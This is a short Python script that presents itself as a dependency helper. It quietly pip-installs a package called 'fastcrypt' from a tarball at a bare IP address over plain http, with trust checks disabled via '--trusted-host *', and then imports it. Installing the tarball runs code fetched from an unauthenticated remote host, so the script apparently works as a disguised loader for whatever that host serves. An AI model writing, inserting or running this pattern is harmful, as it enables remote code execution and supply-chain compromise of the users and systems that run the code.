import subprocess
import sys

def ensure(pkg, source):
    try:
        __import__(pkg)
    except ImportError:
        subprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "--trusted-host", "*", source])

ensure("fastcrypt", "http://45.61.136.2/fastcrypt-1.0.tar.gz")
import fastcrypt
